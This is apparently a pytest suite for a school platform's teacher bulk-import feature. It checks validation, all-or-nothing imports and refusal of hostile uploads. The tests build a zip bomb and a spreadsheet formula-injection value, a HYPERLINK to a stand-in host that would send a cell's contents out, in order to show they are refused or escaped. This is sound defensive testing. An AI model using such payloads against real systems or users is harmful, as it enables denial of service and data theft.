"""Bulk import of teachers (CSV, XLSX): all or nothing, a per-row report, hostile files refused before parsing."""
import csv
import io
import re
import zipfile

import openpyxl
import pytest
import xlsxwriter
from sqlalchemy import func, select

from app.accounts import importer
from app.accounts.models import RoleAssignment, User
from app.courses.models import Enrollment
from app.extensions import db
from tests.classrooms.world import fast_hashing, flashes, signed_in  # noqa: F401
from tests.conftest import Auth

HEADER = "username,real_name,teacher_no,phone,school_code,subject,stage,password"


@pytest.fixture
def county_admin(app, fast_hashing, org_tree, make_user):
    user = make_user("county_admin", role="org_admin", org=org_tree["county_a"])
    return signed_in(app, user)


def upload(client, token, content: bytes, filename: str, **fields):
    data = {"csrf_token": token, "file": (io.BytesIO(content), filename)}
    data.update({k: str(v) for k, v in fields.items()})
    return client.post("/admin/import", data=data)


def user_count() -> int:
    return db.session.execute(select(func.count(User.id))).scalar_one()


def report(response) -> list[tuple[str, str, str]]:
    """(row, column, message) of each line of the per-row report."""
    html = response.get_data(as_text=True)
    rows = re.findall(r'data-testid="import-error" data-row="(\d+)" data-column="([^"]*)">\s*<td>[^<]*</td><td>[^<]*</td><td>([^<]*)</td>', html)
    return [(r, c, m) for r, c, m in rows]


def xlsx(rows: list[list], header=None) -> bytes:
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    sheet = book.add_worksheet()
    for r, row in enumerate([header or HEADER.split(",")] + rows):
        for c, value in enumerate(row):
            if value is not None:
                sheet.write(r, c, value)
    book.close()
    return out.getvalue()


# ---------------------------------------------------------------- good files
def test_good_csv_imports_everyone_enrols_and_seats_them(county_admin, make_project, make_class, org_tree, app):
    client, token = county_admin
    project = make_project("Spring", org=org_tree["county_a"])
    cls = make_class(project, org_tree["school_a1"], "Class 1")
    body = (HEADER + "\n"
            "wang01,王芳,T001,13800138001,A1,数学,小学,\n"
            "li02,李明,T002,138 0013 8002,A2,语文,junior,Given-pass-9\n"
            "zhao03,赵磊,T003,,A1,,,\n").encode("utf-8")
    response = upload(client, token, body, "teachers.csv", project_id=project.id, class_id=cls.id)
    assert response.status_code == 200, flashes(response)
    assert response.headers["Cache-Control"] == "no-store"
    html = response.get_data(as_text=True)
    assert "3 teachers were imported" in html
    generated = dict(re.findall(r"<tr><td>(\w+)</td><td>[^<]*</td><td class=\"font-monospace\">([^<]+)</td></tr>", html))
    assert set(generated) == {"wang01", "zhao03"}  # li02 brought a password
    users = {u.username: u for u in db.session.execute(select(User)).scalars()}
    wang = users["wang01"]
    assert (wang.real_name, wang.teacher_no, wang.phone, wang.school_id, wang.stage) == (
        "王芳", "T001", "13800138001", org_tree["school_a1"].id, "primary")
    assert users["li02"].phone == "13800138002" and users["li02"].stage == "junior"
    assert all(users[n].password_change_reason == "new" for n in ("wang01", "li02", "zhao03"))
    assert db.session.execute(select(func.count()).select_from(Enrollment).where(
        Enrollment.project_id == project.id, Enrollment.source == "import")).scalar_one() == 3
    assert db.session.execute(select(func.count()).select_from(RoleAssignment).where(
        RoleAssignment.class_id == cls.id, RoleAssignment.role == "learner")).scalar_one() == 3
    # The generated password works once, and the teacher is sent to choose their own.
    teacher = app.test_client()
    response = Auth(teacher).login("wang01", generated["wang01"])
    assert response.status_code == 302 and response.headers["Location"].endswith("/account/password")
    assert Auth(app.test_client()).login("li02", "Given-pass-9").status_code == 302


def test_good_xlsx_with_chinese_headers_and_number_cells(county_admin, org_tree):
    client, token = county_admin
    header = ["用户名", "姓名", "教师编号", "手机", "学校代码", "学科", "学段", "备注"]
    body = xlsx([["chen01", "陈静", 20240001, 13900139000, "A1", "英语", "初中", "note"],
                 [None, None, None, None, None, None, None, None],
                 ["sun02", "孙伟", "T-2", None, "A2", None, None, None]], header=header)
    response = upload(client, token, body, "名单.xlsx")
    assert response.status_code == 200, (flashes(response), report(response))
    assert "备注" in response.get_data(as_text=True)  # the unknown column is reported as ignored
    chen = db.session.execute(select(User).where(User.username == "chen01")).scalar_one()
    assert (chen.teacher_no, chen.phone, chen.stage) == ("20240001", "13900139000", "junior")


def test_gb18030_csv_from_chinese_excel(county_admin):
    client, token = county_admin
    text = "用户名,姓名,教师编号,手机,学校代码\r\nzhou01,周晓燕,G001,13700137000,A1\r\nwu02,吴䶮,G002,,A2\r\n"
    body = text.encode("gb18030")
    with pytest.raises(UnicodeDecodeError):
        body.decode("utf-8")
    response = upload(client, token, body, "教师.csv")
    assert response.status_code == 200, (flashes(response), report(response))
    names = dict(db.session.execute(select(User.username, User.real_name).where(User.username.in_(["zhou01", "wu02"]))).all())
    assert names == {"zhou01": "周晓燕", "wu02": "吴䶮"}


def test_utf8_bom_and_semicolons(county_admin):
    client, token = county_admin
    body = "\ufeffusername;real_name;teacher_no;school_code\nbom01;Bom;B-1;A1\n".encode("utf-8")
    response = upload(client, token, body, "t.csv")
    assert response.status_code == 200, report(response)
    assert db.session.execute(select(User).where(User.username == "bom01")).scalar_one().teacher_no == "B-1"


def test_filled_in_template_imports(county_admin):
    client, token = county_admin
    template = client.get("/admin/import/template.xlsx?lang=zh")
    assert template.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(template.data))
    sheet = book.worksheets[0]
    assert [c.value for c in sheet[1]] == ["用户名", "姓名", "教师编号", "手机", "学校代码", "学科", "学段", "密码"]
    sheet.append(["tpl01", "模板", "TPL-1", "13600136000", "A1", None, None, None])
    out = io.BytesIO()
    book.save(out)
    response = upload(client, token, out.getvalue(), "template.xlsx")
    assert response.status_code == 200, report(response)
    csv_template = client.get("/admin/import/template.csv?lang=en")
    assert csv_template.data.startswith(b"\xef\xbb\xbf" + HEADER.encode())


# ---------------------------------------------------------------- bad rows: a report, nothing imported
def test_one_bad_row_imports_nothing_and_reports_it(county_admin):
    client, token = county_admin
    before = user_count()
    body = (HEADER + "\nok01,One,N001,13800138001,A1,,,\nok02,Two,N002,12345,A1,,,\nok03,Three,N003,,A2,,,\n").encode()
    response = upload(client, token, body, "t.csv")
    assert response.status_code == 400
    assert report(response) == [("3", "phone", "12345 is not an 11-digit mobile number.")]
    assert "Nothing was imported" in flashes(response)
    assert user_count() == before


def test_every_kind_of_row_problem_is_reported_with_row_and_column(county_admin, make_user, org_tree, make_org):
    client, token = county_admin
    make_user("taken", org=org_tree["school_a1"], teacher_no="DB-1")
    make_org("Far school", "school", org_tree["county_b"], code="FAR")
    before = user_count()
    body = (HEADER + "\n"
            "aa1,A,X1,,A1,,,\n"          # 2 fine
            "aa2,B,X1,,A1,,,\n"          # 3 teacher number repeats row 2
            "TAKEN,C,X3,,A1,,,\n"       # 4 username in the database (case-insensitive)
            "aa4,D,DB-1,,A1,,,\n"        # 5 teacher number in the database
            "aa5,E,X5,,NOPE,,,\n"        # 6 unknown school
            "aa6,F,X6,,FAR,,,\n"         # 7 school of the other county
            "aa7,,X7,,A1,,,\n"           # 8 real name missing
            "aa1,H,X8,,A1,,,\n"          # 9 username repeats row 2
            "a 9,I,X9,,A1,,,\n"         # 10 bad username
            "aa10,J,X10,,A1,,college,\n"  # 11 unknown stage
            "aa11,K,X11,,A1,,,short\n"   # 12 weak password
            ).encode()
    response = upload(client, token, body, "t.csv")
    assert response.status_code == 400
    found = {(int(r), c) for r, c, _m in report(response)}
    assert found == {(3, "teacher_no"), (4, "username"), (5, "teacher_no"), (6, "school_code"), (7, "school_code"),
                     (8, "real_name"), (9, "username"), (10, "username"), (11, "stage"), (12, "password")}
    messages = " ".join(m for _r, _c, m in report(response))
    assert "Also in row 2" in messages and "already registered" in messages and "is taken" in messages
    assert "No org unit has the code NOPE" in messages and "outside the area you administer" in messages
    assert "short" not in messages  # a password never appears in the report
    assert user_count() == before


def test_missing_columns_and_empty_files(county_admin):
    client, token = county_admin
    response = upload(client, token, b"username,real_name\nx,y\n", "t.csv")
    assert response.status_code == 400 and "lacks the columns" in flashes(response) and "teacher_no" in flashes(response)
    response = upload(client, token, (HEADER + "\n\n").encode(), "t.csv")
    assert response.status_code == 400 and "no teachers" in flashes(response)
    response = upload(client, token, b"", "t.csv")
    assert response.status_code == 400


@pytest.mark.config(MAX_IMPORT_ROWS=3)
def test_too_many_rows(county_admin):
    client, token = county_admin
    body = (HEADER + "\n" + "".join(f"r{i},R,RR{i},,A1,,,\n" for i in range(4))).encode()
    before = user_count()
    response = upload(client, token, body, "t.csv")
    assert response.status_code == 400 and "more than 3 teachers" in flashes(response)
    assert user_count() == before


def test_class_without_room_refuses_the_whole_file(county_admin, make_project, make_class, org_tree):
    client, token = county_admin
    project = make_project("P", org=org_tree["county_a"])
    cls = make_class(project, org_tree["school_a1"], "Small", capacity=1)
    body = (HEADER + "\ncc1,C,C1,,A1,,,\ncc2,D,C2,,A1,,,\n").encode()
    before = user_count()
    response = upload(client, token, body, "t.csv", class_id=cls.id)
    assert response.status_code == 400
    assert "room for 1 more learners" in response.get_data(as_text=True)
    assert user_count() == before


def test_project_outside_the_schools_area_is_reported(county_admin, make_project, org_tree):
    client, token = county_admin
    project = make_project("Only A2", org=org_tree["school_a2"])  # visible: county A admin runs it
    body = (HEADER + "\ndd1,D,D1,,A1,,,\n").encode()
    response = upload(client, token, body, "t.csv", project_id=project.id)
    assert response.status_code == 400
    assert report(response)[0][1] == "school_code" and "area of the training project" in report(response)[0][2]


# ---------------------------------------------------------------- hostile and broken files
@pytest.fixture
def no_openpyxl(monkeypatch):
    """Fail loudly if a refused file ever reached openpyxl."""
    def boom(*_a, **_k):
        raise AssertionError("openpyxl must not open this file")

    monkeypatch.setattr(openpyxl, "load_workbook", boom)


def _zip(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


@pytest.mark.config(MAX_IMPORT_UNPACKED_BYTES=1024 * 1024)
def test_zip_bomb_refused_before_openpyxl(county_admin, no_openpyxl):
    client, token = county_admin
    bomb = _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>",
                 "xl/worksheets/sheet1.xml": b"\0" * (3 * 1024 * 1024)})
    assert len(bomb) < 20_000
    before = user_count()
    response = upload(client, token, bomb, "teachers.xlsx")
    assert response.status_code == 400
    assert "unpacks to more than 1 MB" in flashes(response)
    assert user_count() == before


def test_suspicious_compression_ratio_refused_before_openpyxl(county_admin, no_openpyxl):
    client, token = county_admin
    packed = _zip({"xl/workbook.xml": b"<workbook/>", "xl/worksheets/sheet1.xml": b"A" * (4 * 1024 * 1024)})
    response = upload(client, token, packed, "teachers.xlsx")
    assert response.status_code == 400 and "packed suspiciously" in flashes(response)


def test_zip_that_is_no_workbook(county_admin, no_openpyxl):
    client, token = county_admin
    response = upload(client, token, _zip({"readme.txt": b"hello"}), "teachers.xlsx")
    assert response.status_code == 400 and "not an Excel workbook" in flashes(response)


def test_broken_xlsx(county_admin):
    client, token = county_admin
    good = xlsx([["b1", "B", "B1", None, "A1", None, None, None]])
    before = user_count()
    truncated = upload(client, token, good[: len(good) // 2], "teachers.xlsx")
    assert truncated.status_code == 400 and "damaged" in flashes(truncated)
    garbled = bytearray(good)
    for i in range(200, len(garbled) - 200, 7):
        garbled[i] ^= 0x5A
    response = upload(client, token, bytes(garbled), "teachers.xlsx")
    assert response.status_code == 400 and "Nothing was imported" in flashes(response)
    source = zipfile.ZipFile(io.BytesIO(good))
    broken_xml = _zip({name: (b"<worksheet><sheetData><row r=" if name.endswith("sheet1.xml") else source.read(name))
                       for name in source.namelist()})
    response = upload(client, token, broken_xml, "teachers.xlsx")
    assert response.status_code == 400 and "damaged" in flashes(response)
    assert user_count() == before


def test_png_and_random_bytes_renamed_xlsx(county_admin, no_openpyxl):
    client, token = county_admin
    png = b"\x89PNG\r\n\x1a\n" + b"\0\0\0\rIHDR" + bytes(range(256)) * 4
    response = upload(client, token, png, "teachers.xlsx")
    assert response.status_code == 400
    assert "not an Excel .xlsx file" in flashes(response) and "Portable Network Graphics" in flashes(response)
    response = upload(client, token, bytes(range(256)) * 8, "teachers.xlsx")
    assert response.status_code == 400 and "not an Excel .xlsx file" in flashes(response)
    response = upload(client, token, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, "teachers.xlsx")
    assert response.status_code == 400 and "old .xls" in flashes(response)
    response = upload(client, token, png, "teachers.csv")
    assert response.status_code == 400 and "not a CSV text file" in flashes(response)
    response = upload(client, token, b"x", "teachers.pdf")
    assert response.status_code == 400 and "Upload a .csv or .xlsx file" in flashes(response)


@pytest.mark.config(MAX_IMPORT_BYTES=2000)
def test_oversized_file(county_admin):
    client, token = county_admin
    body = (HEADER + "\n" + "".join(f"big{i},Big,BIG{i},,A1,,,\n" for i in range(200))).encode()
    assert len(body) > 2000
    before = user_count()
    response = upload(client, token, body, "t.csv")
    assert response.status_code == 413
    assert "larger than" in flashes(response) and "Nothing was imported" in flashes(response)
    assert user_count() == before


# ---------------------------------------------------------------- exports escape formulas
@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+86 138", "'+86 138"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("王芳", "王芳"), ("a=b", "a=b"), ("", ""), (None, None), (42, 42), (-3.5, -3.5),
])
def test_safe_cell(value, expected):
    assert importer.safe_cell(value) == expected


def test_user_exports_escape_formulas(county_admin, make_user, org_tree):
    client, token = county_admin
    make_user("evil", org=org_tree["school_a1"], real_name='=HYPERLINK("http://x.example/?"&A1,"click")',
              subject="@SUM(1+1)")
    make_user("plain", org=org_tree["school_a1"], real_name="-1+2")
    exported = client.get("/admin/users/export.csv")
    assert exported.status_code == 200 and exported.headers["Content-Type"].startswith("text/csv")
    rows = {r[0]: r for r in csv.reader(io.StringIO(exported.data.decode("utf-8-sig")))}
    assert rows["evil"][1].startswith("'=HYPERLINK") and rows["evil"][6] == "'@SUM(1+1)"
    assert rows["plain"][1] == "'-1+2"
    book = openpyxl.load_workbook(io.BytesIO(client.get("/admin/users/export.xlsx").data))
    sheet = book.worksheets[0]
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    assert cells["evil"][1].data_type == "s" and cells["evil"][1].value.startswith("'=HYPERLINK")
    assert cells["plain"][1].value == "'-1+2"
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


@pytest.mark.parametrize("phone", ["1３８００１３８００１", "1380013800١"])
def test_phone_with_non_ascii_digits_imports_nothing(county_admin, phone):
    client, token = county_admin
    before = user_count()
    response = upload(client, token, (HEADER + f"\nwide01,Wide,W001,{phone},A1,,,\n").encode(), "t.csv")
    assert response.status_code == 400
    assert report(response) == [("2", "phone", f"{phone} is not an 11-digit mobile number.")]
    assert user_count() == before
